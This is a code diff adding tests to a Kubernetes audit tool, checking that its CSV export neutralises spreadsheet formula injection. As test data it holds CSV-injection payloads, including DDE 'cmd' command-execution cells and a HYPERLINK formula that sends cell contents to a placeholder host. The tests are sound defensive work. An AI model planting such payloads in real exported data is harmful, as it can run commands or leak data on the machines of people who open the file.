@@ -30,6 +30,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from kubelet_winnet.cli import main
 from tests.strategies import require
@@ -921,3 +923,87 @@ def test_a_field_newer_than_the_pinned_lists_is_no_finding_of_a_served_pod(
     assert main(["check", str(manifest), "--assume-windows", "-o", "json"]) == 1
     found = json.loads(capsys.readouterr().out)["findings"]
     assert [f["rule"] for f in found] == ["unknown-field", "unknown-field"]
+
+
+# --- CSV cells a spreadsheet would run (issue 30, item 3) -----------------------------------
+
+# OWASP, "CSV Injection": a cell starting with one of these is read as a formula.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_would_start_a_formula_get_a_single_quote(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A node reports its own kubeletVersion and names in a dump are free text."""
+    payload = "=cmd|' /C calc'!A0"
+    evil = node("+n1", "windows", payload, "@SUM(1+1)*cmd|' /C calc'!A0")
+    manifest = pod("-ns", "=HYPERLINK(\"http://x/\"&A1)", "+n1", host_network=True)
+    path = write_dump(tmp_path / "evil.json", [evil, manifest])
+    _, out, _ = audit(["-f", str(path), "-o", "csv"], capsys)
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["namespace"] == "'-ns"
+    assert row["pod"] == "'=HYPERLINK(\"http://x/\"&A1)"
+    assert row["node"] == "'+n1"
+    assert row["kubeletVersion"] == "'" + payload
+    assert row["runtime"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    for line in out.splitlines():  # every cell quoted: a separator never starts a cell
+        assert line.startswith('"') and line.endswith('"')
+
+
+def _audit_record(cells: list[str]) -> Any:
+    from kubelet_winnet.cli.audit import PodAudit
+
+    return PodAudit(
+        namespace=cells[0], name=cells[1], node=cells[2], kubelet_version=cells[3],
+        kubelet_source=cells[4], runtime=cells[5], host_network=False, network=cells[6],
+        host_process=False, refused=cells[7], effect="not-requested", note=cells[8],
+        findings=(), where="x",
+    )
+
+
+# Indexes of the free-text fields above in the CSV row (_CSV_HEADER's order).
+_FREE_CELLS = (0, 1, 2, 3, 4, 5, 7, 9, 13)
+
+
+_CELL_TEXT = st.tuples(st.sampled_from(("", "", *FORMULA_START)), st.text(max_size=12)).map(
+    "".join
+)
+
+
+@given(st.lists(_CELL_TEXT, min_size=9, max_size=9))
+def test_csv_no_parsed_cell_starts_a_formula_and_other_cells_round_trip(
+    cells: list[str],
+) -> None:
+    from kubelet_winnet.cli.audit import _CsvWriter
+
+    out = io.StringIO()
+    writer = _CsvWriter(out)
+    writer.add(_audit_record(cells))
+    header, row = list(csv.reader(io.StringIO(out.getvalue())))
+    assert len(row) == len(header)
+    for parsed in row:
+        assert not parsed.startswith(FORMULA_START), row
+    for index, text in zip(_FREE_CELLS, cells, strict=True):
+        if not text.isprintable():
+            continue  # the shared escaping rule rewrites it; the property above holds
+        if text.startswith(FORMULA_START):
+            assert row[index] == "'" + text
+        elif index not in (6, 9) or text:  # network and refused: "" when absent
+            assert row[index] == text
+
+
+@pytest.mark.parametrize("text", ["a,=1+2", 'x";=1+2', "x;@SUM(A1)", "x\t=1"])
+def test_csv_separator_then_formula_stays_inside_one_quoted_cell(text: str) -> None:
+    """OWASP: a separator or quote in a value must not open a new cell that starts with
+    a formula character; every cell is quoted and its quotes doubled."""
+    from kubelet_winnet.cli.audit import _CsvWriter
+
+    out = io.StringIO()
+    _CsvWriter(out).add(_audit_record([text] * 9))
+    _, row = list(csv.reader(io.StringIO(out.getvalue())))
+    assert len(row) == 14
+    assert not any(cell.startswith(FORMULA_START) for cell in row)
+    line = out.getvalue().splitlines()[1]
+    assert line.count('"') % 2 == 0 and line.startswith('"')
